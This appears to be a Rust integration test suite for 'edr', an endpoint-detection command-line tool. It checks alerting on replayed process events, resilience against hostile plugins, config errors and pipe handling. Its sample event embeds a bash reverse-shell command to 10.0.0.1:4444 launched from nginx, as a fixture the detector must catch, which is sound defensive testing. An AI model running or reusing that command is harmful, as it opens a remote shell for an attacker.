//! The `edr` command line, end to end.

mod common;
use std::io::Write;
use std::process::{Command, Stdio};

const EXAMPLE: &str = r#"{"event":{"category":["process"],"type":["start"]},"process":{"pid":4242,"executable":"/usr/bin/bash","args":["bash","-c","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],"command_line":"bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1","parent":{"pid":4200,"executable":"/usr/sbin/nginx"}}}"#;

fn edr(args: &[&str], stdin: &str) -> (String, String, bool) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_edr"))
        .args(args)
        .env("EDR_LOG", "warn")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(stdin.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    (String::from_utf8(out.stdout).unwrap(), String::from_utf8(out.stderr).unwrap(), out.status.success())
}

fn alerts(stdout: &str) -> Vec<serde_json::Value> {
    stdout.lines().map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l}: {e}"))).collect()
}

#[test]
fn replay_of_the_issue_example_alerts_from_lineage_and_reverse_shell() {
    let (out, err, ok) = edr(&["replay", "-"], &format!("{EXAMPLE}\n"));
    assert!(ok, "{err}");
    let alerts = alerts(&out);
    let mut plugins: Vec<&str> = alerts.iter().map(|a| a["edr"]["plugin"].as_str().unwrap()).collect();
    plugins.sort();
    assert_eq!(plugins, vec!["lineage", "reverse-shell"], "{out}");
    for a in &alerts {
        assert_eq!(a["event"]["kind"], "alert");
        assert!(a["rule"]["id"].as_str().unwrap().starts_with("edr."));
        assert!(a["rule"]["name"].is_string());
        assert_eq!(a["rule"]["author"][0], "edr project");
        assert!(a["event"]["severity"].as_u64().unwrap() > 0);
        assert!(a["threat"]["technique"]["id"][0].as_str().unwrap().starts_with('T'));
        assert!(a["message"].is_string());
        assert_eq!(a["process"]["pid"], 4242);
        assert_eq!(a["process"]["executable"], "/usr/bin/bash");
        assert_eq!(a["process"]["parent"]["executable"], "/usr/sbin/nginx");
    }
}

#[test]
fn replay_reports_malformed_lines_by_number_and_goes_on() {
    let input = format!("not json\n{{\"event\":{{\"category\":\"dns\"}}}}\n{EXAMPLE}\n[1,2]\n");
    let (out, err, ok) = edr(&["replay", "-"], &input);
    assert!(ok, "{err}");
    assert!(err.contains("line 1: skipped: not valid JSON"), "{err}");
    assert!(err.contains("line 2: skipped: field `event.category`"), "{err}");
    assert!(err.contains("line 4: skipped: expected a JSON object"), "{err}");
    assert!(err.contains("3 malformed lines skipped"), "{err}");
    assert_eq!(alerts(&out).len(), 2);
}

#[test]
fn replay_with_a_trapping_and_a_looping_plugin_still_alerts_from_the_builtins() {
    let panic = common::plugin_path("edr-hostile-panic");
    let spin = common::plugin_path("edr-hostile-infinite-loop");
    let (out, err, ok) = edr(&["replay", "--plugin", panic.to_str().unwrap(), "--plugin", spin.to_str().unwrap(), "-"], &format!("{EXAMPLE}\n{EXAMPLE}\n"));
    assert!(ok, "{err}");
    assert_eq!(alerts(&out).len(), 4, "{out}\n{err}");
    assert!(err.contains("plugin edr-hostile-panic") && err.contains("traps"), "{err}");
    assert!(err.contains("plugin edr-hostile-infinite-loop") && err.contains("1 timeouts"), "{err}");
}

#[test]
fn bad_config_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("edr.toml");
    std::fs::write(&cfg, "[runtime]\nbatch_size = -1\n").unwrap();
    let (_, err, ok) = edr(&["replay", "--config", cfg.to_str().unwrap(), "-"], "");
    assert!(!ok);
    assert!(err.contains("edr.toml: line 2"), "{err}");
}

#[test]
fn agent_reads_a_file_source_and_writes_the_alerts_file() {
    let dir = tempfile::tempdir().unwrap();
    let events = dir.path().join("events.jsonl");
    std::fs::write(&events, format!("{EXAMPLE}\n")).unwrap();
    let cfg = dir.path().join("edr.toml");
    std::fs::write(&cfg, format!("data_dir = {:?}\n[output]\nstdout = false\n[collect]\nsource = {:?}\n", dir.path().join("data"), events)).unwrap();
    let (out, err, ok) = edr(&["agent", "--config", cfg.to_str().unwrap()], "");
    assert!(ok, "{err}");
    assert!(out.is_empty());
    let written = std::fs::read_to_string(dir.path().join("data/alerts.jsonl")).unwrap();
    assert_eq!(alerts(&written).len(), 2);
}

/// Every hostile fixture beside the built-ins, through the real dispatcher:
/// all of the good plugins' alerts arrive, whatever the hostile one does.
#[test]
fn every_hostile_fixture_beside_the_builtins_loses_no_alert() {
    let dir = tempfile::tempdir().unwrap();
    // 40 batches of 8 events: one attack per batch for writable-exec.
    let mut events = String::new();
    for i in 0..40 {
        events.push_str(&format!(
            "{{\"process\":{{\"pid\":{},\"executable\":\"/tmp/drop{i}\",\"args\":[\"x\"],\"parent\":{{\"pid\":1,\"executable\":\"/usr/bin/bash\"}}}}}}\n",
            1000 + i
        ));
        for j in 0..7 {
            events.push_str(&format!(
                "{{\"process\":{{\"pid\":{},\"executable\":\"/usr/bin/ls\",\"args\":[\"ls\"],\"parent\":{{\"pid\":1,\"executable\":\"/usr/bin/bash\"}}}}}}\n",
                5000 + i * 10 + j
            ));
        }
    }
    let input = dir.path().join("events.jsonl");
    std::fs::write(&input, events).unwrap();
    let fixtures = std::fs::read_dir(common::repo_root().join("plugins/hostile")).unwrap().flatten().map(|e| e.file_name().to_string_lossy().into_owned());
    let mut fixtures: Vec<String> = fixtures.collect();
    fixtures.sort();
    assert!(fixtures.len() >= 12, "{fixtures:?}");
    for f in fixtures {
        let package = format!("edr-hostile-{f}");
        let cfg = dir.path().join("edr.toml");
        // Short deadlines for the hostile plugin; the built-ins keep theirs.
        std::fs::write(
            &cfg,
            format!("[runtime]\nbatch_size = 8\nmax_strikes = 3\n[plugins.limits.{package}]\ncall_deadline_ms = 30\ninit_deadline_ms = 300\nmemory_mb = 16\n"),
        )
        .unwrap();
        let wasm = common::plugin_path(&package);
        let (out, err, ok) = edr(&["replay", "--config", cfg.to_str().unwrap(), "--plugin", wasm.to_str().unwrap(), input.to_str().unwrap()], "");
        assert!(ok, "{f}: {err}");
        let good = alerts(&out).into_iter().filter(|a| a["edr"]["plugin"] == "writable-exec").count();
        assert_eq!(good, 40, "{f}: the built-in writable-exec lost alerts\n{err}");
        eprintln!(
            "{f}: 40/40 writable-exec alerts; {}",
            err.lines().filter(|l| l.contains(&package) || l.contains("does not") || l.contains("imports")).collect::<Vec<_>>().join(" | ")
        );
    }
}

/// Runs `edr ARGS` with its stdout a pipe whose reader is already gone.
fn into_a_closed_pipe(args: &[&str]) -> (std::process::ExitStatus, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_edr")).args(args).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    (out.status, String::from_utf8_lossy(&out.stderr).into_owned())
}

#[test]
fn commands_exit_quietly_when_their_reader_goes_away() {
    use std::os::unix::process::ExitStatusExt;
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("edr.toml");
    std::fs::write(&cfg, include_str!("../../examples/edr.toml")).unwrap();
    for args in [&["config", "example"][..], &["config", "check", cfg.to_str().unwrap()], &["config", "check", "--json", cfg.to_str().unwrap()]] {
        let (status, err) = into_a_closed_pipe(args);
        assert!(!err.contains("panicked") && !err.contains("Broken pipe"), "edr {args:?}: {err}");
        assert!(status.success() || status.signal() == Some(libc::SIGPIPE), "edr {args:?}: {status:?} {err}");
    }
    // `| head -1`: the reader takes one line and leaves.
    let out = Command::new("sh").arg("-c").arg(format!("{:?} config check {:?} | head -1", env!("CARGO_BIN_EXE_edr"), cfg)).output().unwrap();
    assert!(out.status.success());
    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 1);
    assert!(!String::from_utf8_lossy(&out.stderr).contains("panicked"), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn pack_sign_with_a_missing_key_says_why_once() {
    let dir = tempfile::tempdir().unwrap();
    let archive = dir.path().join("x.edrpack");
    std::fs::write(&archive, b"not a pack").unwrap();
    let key = dir.path().join("absent.key");
    let (_, err, ok) = edr(&["pack", "sign", archive.to_str().unwrap(), "--key", key.to_str().unwrap()], "");
    assert!(!ok);
    assert!(err.contains("absent.key"), "{err}");
    assert_eq!(err.matches("No such file or directory").count(), 1, "the cause is said once: {err}");
    assert_eq!(err.lines().filter(|l| !l.trim().is_empty()).count(), 1, "one error line: {err}");
}

#[test]
fn the_agent_with_a_closed_stdout_still_writes_its_alerts_file() {
    // The agent keeps SIGPIPE ignored: a reader of its stdout that went away
    // ends stdout output only, never the run nor the other outputs.
    let dir = tempfile::tempdir().unwrap();
    let events = dir.path().join("events.jsonl");
    std::fs::write(&events, format!("{EXAMPLE}\n")).unwrap();
    let cfg = dir.path().join("edr.toml");
    std::fs::write(&cfg, format!("data_dir = {:?}\n[output]\nstdout = true\n[collect]\nsource = {:?}\n", dir.path().join("data"), events)).unwrap();
    let (status, err) = into_a_closed_pipe(&["agent", "--config", cfg.to_str().unwrap()]);
    assert!(status.success(), "{status:?}: {err}");
    assert!(!err.contains("panicked"), "{err}");
    assert!(err.contains("stdout is a closed pipe"), "{err}");
    let written = std::fs::read_to_string(dir.path().join("data/alerts.jsonl")).unwrap();
    assert_eq!(alerts(&written).len(), 2, "both alerts reach the alerts file");
}
